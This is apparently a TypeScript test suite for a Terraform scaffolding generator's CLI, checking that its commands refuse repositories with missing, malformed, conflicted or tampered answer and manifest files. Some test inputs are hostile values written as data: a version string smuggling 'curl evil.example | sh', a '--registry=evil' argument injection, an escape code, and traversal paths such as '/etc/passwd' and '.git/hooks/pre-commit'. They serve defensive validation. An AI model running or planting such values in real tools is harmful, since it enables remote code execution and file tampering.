import { doesNotMatch, equal } from 'node:assert/strict';
import { appendFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { scratch } from '../terraform/workbench.ts';
import { cli } from './cli.ts';
import { assertRefusedIn, made, rewrite } from './made.ts';

const commands: readonly (readonly string[])[] = [
  ['update'],
  ['update', '--check'],
  ['update', '--dry-run'],
  ['environment', 'qa', '--org', 'acme-qa'],
];

/** Every command refuses a repository that a user did this to, with one message, and changes no byte. */
async function assertAllRefuse(spoil: (dir: string) => void, says: RegExp): Promise<void> {
  const dir = await made();
  spoil(dir);
  for (const args of commands) await assertRefusedIn(dir, args, says);
}

describe('A record that cannot be used', () => {
  it('is missing: the message says where to go, and how to take the folder over', async () => {
    const dir = scratch('none');
    for (const args of commands)
      await assertRefusedIn(dir, args, /is not in a repository of this generator[\s\S]*update --adopt/);
  });

  it('holds the answers of other generators only', async () => {
    const dir = scratch('other');
    writeFileSync(join(dir, '.yo-rc.json'), '{"generator-other":{}}');
    await assertRefusedIn(dir, ['update'], /is not in a repository of this generator/);
  });

  it('has lost its answers', () =>
    assertAllRefuse((dir) => rmSync(join(dir, '.yo-rc.json')), /\.yo-rc\.json is missing/));

  it('has answers that are no JSON', () =>
    assertAllRefuse((dir) => appendFileSync(join(dir, '.yo-rc.json'), '}'), /\.yo-rc\.json is not valid JSON/));

  it('has answers in which git left a conflict', () =>
    assertAllRefuse(
      (dir) => rewrite(dir, '.yo-rc.json', (text) => `<<<<<<< HEAD\n${text}=======\n${text}>>>>>>> other\n`),
      /If it contains a Git merge conflict, resolve it first/,
    ));

  it('has answers that a user edited, and that are not valid', () =>
    assertAllRefuse(
      (dir) => rewrite(dir, '.yo-rc.json', (text) => text.replace('"engine": "terraform"', '"engine": "pulumi"')),
      /\.yo-rc\.json: One answer is[\s\S]* engine: /,
    ));

  it('was written by a newer version, and names the one to use', () =>
    assertAllRefuse(
      (dir) =>
        rewrite(dir, '.scaffold/manifest.json', (text) => text.replace(/"generator": ".*"/, '"generator": "99.1.0"')),
      /last updated by version 99\.1\.0, and this is [\s\S]*npx generator-unionai-terraform@99\.1\.0 update/,
    ));

  for (const version of ['99.0.0; curl evil.example | sh', '99.0.0\u001b[31m', '99', '1.0.0 --registry=evil', '']) {
    it(`names ${JSON.stringify(version)} as its version, which is not shown`, async () => {
      const generator = JSON.stringify({ generator: version }).slice(1, -1);
      await assertAllRefuse(
        (dir) => rewrite(dir, '.scaffold/manifest.json', (text) => text.replace(/"generator": ".*"/, () => generator)),
        /manifest\.json: its generator version is not a valid version\.\n {2}Restore the file from Git/,
      );
    });
  }

  for (const path of ['.scaffold/manifest.json', '.scaffold/base.json']) {
    it(`has ${path} in a format of a later version`, () =>
      assertAllRefuse(
        (dir) => rewrite(dir, path, (text) => text.replace('"format": 1', '"format": 2')),
        /written by a later version of the generator/,
      ));
  }

  for (const path of [
    '../outside',
    '/etc/passwd',
    'a/../../outside',
    '.git/hooks/pre-commit',
    'modules/.GIT/config',
    'a//b',
    'a\\..\\b',
  ]) {
    it(`has a manifest that names ${path}`, () =>
      assertAllRefuse(
        (dir) => rewrite(dir, '.scaffold/manifest.json', (text) => text.replace('"SECURITY.md"', JSON.stringify(path))),
        /manifest\.json: it contains a path outside the repository/,
      ));
  }

  it('has a manifest that names an object’s own parts', async () => {
    const dir = await made();
    rewrite(dir, '.scaffold/manifest.json', (text) => text.replace('"SECURITY.md"', '"__proto__"'));
    const { status, stderr } = await cli(['update', '--dry-run'], { cwd: dir });
    doesNotMatch(stderr, /A bug of/);
    equal(status === 0 || status === 3, true);
  });
});
